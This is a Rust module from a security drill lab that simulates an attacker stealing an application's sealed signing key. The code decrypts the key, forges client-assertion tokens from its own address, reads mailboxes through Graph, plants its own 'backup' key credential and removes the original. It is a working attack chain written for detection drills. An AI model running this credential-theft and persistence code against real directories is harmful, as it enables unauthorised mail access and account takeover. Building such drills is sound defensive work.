//! Somebody who broke into the machine that keys are kept on: for drills.
//!
//! He does what the attackers of January 2021 did with a vendor's certificate: takes the key away, gets
//! tokens with it from an address of his own, reads mail, puts a key of his own beside ours and takes
//! ours away. He shares no code with what is to notice him.

mod eavesdropper;
mod issuer;

use std::{fs, net::IpAddr, path::Path, time::Duration};

use age::x25519;
use aws_lc_rs::{
    rand::SystemRandom,
    signature::{RSA_PSS_SHA256, RsaKeyPair},
};
use data_encoding::{BASE64, BASE64URL_NOPAD};
use reqwest::{Response, StatusCode};
use serde::Deserialize;
use serde_json::{Value, json};
use time::OffsetDateTime;
use uuid::Uuid;

use crate::{Description, LabError};

pub use eavesdropper::{Eavesdropper, Granted, Overheard};
use eavesdropper::{opens, read, token};
pub use issuer::OwnIssuer;

/// In front of what a sealed file holds.
const TAG: usize = 32;

/// The thief, with one of somebody else's keys.
pub struct Thief {
    key: RsaKeyPair,
    /// SHA-256 over the certificate.
    thumbprint: Vec<u8>,
    client_id: String,
    token_endpoint: String,
    graph: String,
    http: reqwest::Client,
    token: Option<String>,
}

/// A sealed file of Mailkeep's signer, as far as he cares.
#[derive(Deserialize)]
struct Sealed {
    keys: Vec<SealedKey>,
    binding: Binding,
}

#[derive(Deserialize)]
struct SealedKey {
    #[serde(default)]
    slot: Option<String>,
    pkcs8: String,
    certificate: String,
}

#[derive(Deserialize)]
struct Binding {
    client_id: String,
    token_endpoint: String,
}

/// A key that he made himself.
pub struct OwnKey {
    key: RsaKeyPair,
    certificate: Vec<u8>,
}

impl Thief {
    /// Opens a sealed file with the key file that lay beside it. He comes from `address`.
    ///
    /// # Errors
    /// When there is nothing to steal.
    pub fn break_in(
        key_file: &Path,
        sealed: &Path,
        lab: &Description,
        address: IpAddr,
    ) -> Result<Self, LabError> {
        let failed = |what: String| LabError::Thief(format!("{}: {what}", sealed.display()));
        let text = fs::read_to_string(key_file).map_err(|error| failed(error.to_string()))?;
        let identity = text
            .lines()
            .find_map(|line| line.trim().parse::<x25519::Identity>().ok())
            .ok_or_else(|| failed("the key file holds no key".to_owned()))?;
        let bytes = fs::read(sealed).map_err(|error| failed(error.to_string()))?;
        let plain = age::decrypt(&identity, &bytes).map_err(|error| failed(error.to_string()))?;
        let content = plain.get(TAG..).unwrap_or_default();
        let found: Sealed =
            serde_json::from_slice(content).map_err(|error| failed(error.to_string()))?;
        let active = found.keys.into_iter().find(|key| match &key.slot {
            Some(slot) => slot == "active",
            None => true,
        });
        let active = active.ok_or_else(|| failed("there is no key in use".to_owned()))?;
        let decode =
            |text: &str| BASE64.decode(text.as_bytes()).map_err(|error| failed(error.to_string()));
        let key = RsaKeyPair::from_pkcs8(&decode(&active.pkcs8)?)
            .map_err(|error| failed(error.to_string()))?;
        let certificate = decode(&active.certificate)?;
        Ok(Self {
            key,
            thumbprint: sha256(&certificate),
            client_id: found.binding.client_id,
            token_endpoint: found.binding.token_endpoint,
            graph: lab.graph.clone(),
            http: client(lab, address)?,
            token: None,
        })
    }

    /// Gets a token with the stolen key, and says that he understands continuous access evaluation:
    /// such tokens are good for a day.
    ///
    /// # Errors
    /// What the directory says.
    pub async fn get_token(&mut self) -> Result<(), LabError> {
        let assertion = self.assertion(&self.key, &self.thumbprint)?;
        self.token = Some(self.token_with(&assertion).await?);
        Ok(())
    }

    /// Whether his token still opens a mailbox.
    ///
    /// # Errors
    /// When there is no answer.
    pub async fn can_read(&self, mailbox: &str) -> Result<bool, LabError> {
        let token = self.token.as_deref().unwrap_or_default();
        opens(&self.http, &self.graph, token, mailbox).await
    }

    /// Whether a token is given out for the stolen key.
    ///
    /// # Errors
    /// When there is no answer.
    pub async fn is_let_in(&self) -> Result<bool, LabError> {
        let assertion = self.assertion(&self.key, &self.thumbprint)?;
        let_in(self.token_with(&assertion).await)
    }

    /// Whether a token is given out for a key of his own.
    ///
    /// # Errors
    /// When it cannot be tried.
    pub async fn is_let_in_with(&self, own: &OwnKey) -> Result<bool, LabError> {
        let assertion = self.assertion(&own.key, &sha256(&own.certificate))?;
        let_in(self.token_with(&assertion).await)
    }

    /// Reads the newest messages of a mailbox; their `Message-ID`s.
    ///
    /// # Errors
    /// What Graph says.
    pub async fn read(&self, mailbox: &str, count: usize) -> Result<Vec<String>, LabError> {
        let token = self.token.as_deref().unwrap_or_default();
        read(&self.http, &self.graph, token, mailbox, count).await
    }

    /// Puts a key of his own beside ours, with a proof that he holds ours.
    ///
    /// # Errors
    /// What Graph says.
    pub async fn add_own_key(&self, object_id: &str) -> Result<OwnKey, LabError> {
        let own = OwnKey::make()?;
        let body = json!({
            "keyCredential": {
                "type": "AsymmetricX509Cert",
                "usage": "Verify",
                "key": BASE64.encode(&own.certificate),
                "displayName": "backup",
            },
            "passwordCredential": null,
            "proof": self.proof(object_id)?,
        });
        self.post(&format!("{}/applications/{object_id}/addKey", self.graph), &body).await?;
        Ok(own)
    }

    /// Takes ours away.
    ///
    /// # Errors
    /// What Graph says.
    pub async fn remove_key(&self, object_id: &str, key_id: &str) -> Result<(), LabError> {
        let body = json!({ "keyId": key_id, "proof": self.proof(object_id)? });
        self.post(&format!("{}/applications/{object_id}/removeKey", self.graph), &body).await
    }

    async fn post(&self, url: &str, body: &Value) -> Result<(), LabError> {
        let token = self.token.as_deref().unwrap_or_default();
        let request = self.http.post(url).bearer_auth(token).json(body);
        good(request.send().await.map_err(unreachable)?).await.map(drop)
    }

    async fn token_with(&self, assertion: &str) -> Result<String, LabError> {
        let overheard = Overheard {
            token_endpoint: &self.token_endpoint,
            client_id: &self.client_id,
            assertion,
        };
        let claims = json!({ "access_token": { "xms_cc": { "values": ["cp1"] } } });
        let asked = token(&self.http, &self.graph, &overheard, None, Some(&claims));
        Ok(asked.await?.token)
    }

    fn assertion(&self, key: &RsaKeyPair, thumbprint: &[u8]) -> Result<String, LabError> {
        let now = OffsetDateTime::now_utc().unix_timestamp();
        let claims = json!({
            "aud": self.token_endpoint,
            "iss": self.client_id,
            "sub": self.client_id,
            "jti": Uuid::new_v4(),
            "nbf": now,
            "iat": now,
            "exp": now + 300,
        });
        signed(key, thumbprint, &claims)
    }

    fn proof(&self, object_id: &str) -> Result<String, LabError> {
        let now = OffsetDateTime::now_utc().unix_timestamp();
        let claims = json!({
            "aud": "00000002-0000-0000-c000-000000000000",
            "iss": object_id,
            "nbf": now,
            "exp": now + 300,
        });
        signed(&self.key, &self.thumbprint, &claims)
    }
}

/// Whether a token was given out: only the directory's own refusal is a no.
fn let_in<T>(asked: Result<T, LabError>) -> Result<bool, LabError> {
    match asked {
        Ok(_) => Ok(true),
        Err(LabError::Thief(what)) if what.contains("AADSTS") => Ok(false),
        Err(error) => Err(error),
    }
}

impl OwnKey {
    fn make() -> Result<Self, LabError> {
        let failed = |what: &dyn ToString| LabError::Thief(what.to_string());
        let pair =
            rcgen::KeyPair::generate_rsa_for(&rcgen::PKCS_RSA_SHA256, rcgen::RsaKeySize::_2048)
                .map_err(|error| failed(&error))?;
        let params = rcgen::CertificateParams::default();
        let certificate = params.self_signed(&pair).map_err(|error| failed(&error))?;
        let key = RsaKeyPair::from_pkcs8(&pair.serialize_der()).map_err(|error| failed(&error))?;
        Ok(Self { key, certificate: certificate.der().to_vec() })
    }
}

fn client(lab: &Description, address: IpAddr) -> Result<reqwest::Client, LabError> {
    let failed = |what: &dyn ToString| LabError::Thief(what.to_string());
    let pem = fs::read(&lab.ca).map_err(|error| failed(&error))?;
    let ca = reqwest::Certificate::from_pem(&pem).map_err(|error| failed(&error))?;
    reqwest::Client::builder()
        .tls_certs_only([ca])
        .local_address(address)
        .timeout(Duration::from_secs(30))
        .build()
        .map_err(|error| failed(&error))
}

fn signed(key: &RsaKeyPair, thumbprint: &[u8], claims: &Value) -> Result<String, LabError> {
    let header = json!({
        "alg": "PS256",
        "typ": "JWT",
        "x5t#S256": BASE64URL_NOPAD.encode(thumbprint),
    });
    signed_as(&header, key, claims)
}

fn signed_as(header: &Value, key: &RsaKeyPair, claims: &Value) -> Result<String, LabError> {
    let part = |value: &Value| BASE64URL_NOPAD.encode(value.to_string().as_bytes());
    let text = format!("{}.{}", part(header), part(claims));
    let mut signature = vec![0; key.public_modulus_len()];
    key.sign(&RSA_PSS_SHA256, &SystemRandom::new(), text.as_bytes(), &mut signature)
        .map_err(|_| LabError::Thief("cannot sign".to_owned()))?;
    Ok(format!("{text}.{}", BASE64URL_NOPAD.encode(&signature)))
}

fn sha256(bytes: &[u8]) -> Vec<u8> {
    aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, bytes).as_ref().to_vec()
}

async fn good(answer: Response) -> Result<Response, LabError> {
    let status = answer.status();
    if status.is_success() || status == StatusCode::NO_CONTENT {
        return Ok(answer);
    }
    let text = answer.text().await.unwrap_or_default();
    Err(LabError::Thief(format!("{status}: {}", text.chars().take(300).collect::<String>())))
}

async fn json_of(answer: Response) -> Result<Value, LabError> {
    answer.json().await.map_err(unreachable)
}

#[allow(clippy::needless_pass_by_value, reason = "as `map_err` wants it")]
fn unreachable(error: reqwest::Error) -> LabError {
    LabError::Thief(error.to_string())
}
